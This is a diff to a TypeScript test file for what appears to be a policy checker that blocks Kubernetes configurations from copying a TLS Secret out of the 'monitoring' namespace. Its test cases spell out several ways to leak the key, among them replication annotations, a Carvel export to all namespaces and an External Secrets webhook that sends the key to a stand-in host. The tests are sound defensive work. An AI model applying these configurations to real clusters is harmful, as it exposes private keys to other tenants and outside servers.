@@ -27,6 +27,8 @@ const secretWith =
   };
 const gatekeeper = (kind: string, spec: object) => object('config.gatekeeper.sh/v1alpha1', kind, 'gatekeeper', spec);
 
+const TLS = { name: 'influxdb-tls' };
+
 const HAS_ALL = /\S+\.mine (copies|sees|may show) (the Secrets|what is) .*"monitoring"/;
 const HAS_KEY = /kubernetes_secret_v1\.influxdb_certificate_\w+: \S+\.mine names it, and with it its key/;
 
@@ -116,6 +118,67 @@ test.each<[string, Make, RegExp?]>([
     ),
     HAS_KEY,
   ],
+  [
+    'a copy by an annotation of what cert-manager makes',
+    object('cert-manager.io/v1', 'Certificate', 'theirs', {
+      ...{ secretName: 'mine', dnsNames: ['mine.example.com'], issuerRef: { name: 'mine' } },
+      secretTemplate: { annotations: { 'replicator.v1.mittwald.de/replicate-from': 'monitoring/influxdb-tls' } },
+    }),
+    HAS_KEY,
+  ],
+  [
+    'a copy by an annotation that is added',
+    (stack) => {
+      stack.addOverride('resource.kubernetes_annotations.mine', {
+        ...{ api_version: 'v1', kind: 'Secret', metadata: { name: 'mine', namespace: 'theirs' } },
+        annotations: { 'reflector.v1.k8s.emberstack.com/reflects': 'monitoring/influxdb-tls' },
+      });
+    },
+    HAS_KEY,
+  ],
+  [
+    'a store that sends it to a server',
+    object('external-secrets.io/v1', 'SecretStore', 'monitoring', {
+      provider: { webhook: { url: 'https://a.example/?k={{ .s.k }}', secrets: [{ name: 's', secretRef: TLS }] } },
+    }),
+    HAS_KEY,
+  ],
+  [
+    'a store that logs in with it',
+    object('external-secrets.io/v1', 'SecretStore', 'monitoring', {
+      provider: { vault: { auth: { cert: { clientCert: TLS, secretRef: { ...TLS, key: 'tls.key' } } } } },
+    }),
+    HAS_KEY,
+  ],
+  [
+    'a template of Carvel',
+    object('secretgen.carvel.dev/v1alpha1', 'SecretTemplate', 'monitoring', {
+      inputResources: [{ name: 'a', ref: { apiVersion: 'v1', kind: 'Secret', ...TLS } }],
+    }),
+    HAS_KEY,
+  ],
+  [
+    'an export of Carvel',
+    object('secretgen.carvel.dev/v1alpha1', 'SecretExport', 'monitoring', { toNamespaces: ['*'] }, TLS),
+    HAS_KEY,
+  ],
+  [
+    'any kind that begins with Secret',
+    object('example.com/v1', 'SecretAgentConfiguration', 'monitoring', TLS),
+    HAS_KEY,
+  ],
+  [
+    'a Secret that another controller makes in a cloud',
+    object('keyvault.azure.upbound.io/v1beta1', 'Secret', undefined, {
+      forProvider: { valueSecretRef: { ...TLS, namespace: 'monitoring', key: 'tls.key' } },
+    }),
+    HAS_KEY,
+  ],
+  [
+    'a Certificate of another controller',
+    object('cert.gardener.cloud/v1alpha1', 'Certificate', 'monitoring', { secretRef: TLS }),
+    HAS_KEY,
+  ],
 ])('%s is refused', (_, make, what = HAS_ALL) => {
   for (const said of beside(make)) expect(said).toMatch(what);
 });
@@ -149,6 +212,29 @@ test.each<[string, Make]>([
   [
     'what Gatekeeper has of others',
     gatekeeper('Config', { sync: { syncOnly: [{ group: '', version: 'v1', kind: 'Pod' }] } }),
+  ],
+  [
+    'a store that sends another Secret',
+    object('external-secrets.io/v1', 'SecretStore', 'monitoring', {
+      provider: { webhook: { url: 'https://a.example', secrets: [{ name: 's', secretRef: { name: 'mine' } }] } },
+    }),
+  ],
+  [
+    'a store at an address, and for a namespace, that a variable says',
+    object('external-secrets.io/v1', 'SecretStore', 'theirs', {
+      provider: { vault: { server: '${var.a}', auth: { tokenSecretRef: { name: 'mine', namespace: '${var.b}' } } } },
+    }),
+  ],
+  [
+    'an export of a Secret of that name elsewhere',
+    object('secretgen.carvel.dev/v1alpha1', 'SecretExport', 'a', {}, TLS),
+  ],
+  [
+    'a certificate of theirs with annotations',
+    object('cert-manager.io/v1', 'Certificate', 'theirs', {
+      ...{ secretName: 'mine', dnsNames: ['mine.example.com'], issuerRef: { name: 'mine' } },
+      secretTemplate: { annotations: { 'replicator.v1.mittwald.de/replicate-from': 'theirs/influxdb-tls' } },
+    }),
   ],
   ['a copy of another Secret', secretWith({ 'replicator.v1.mittwald.de/replicate-from': 'theirs/influxdb-tls' })],
 ])('%s is let through', (_, make) => {
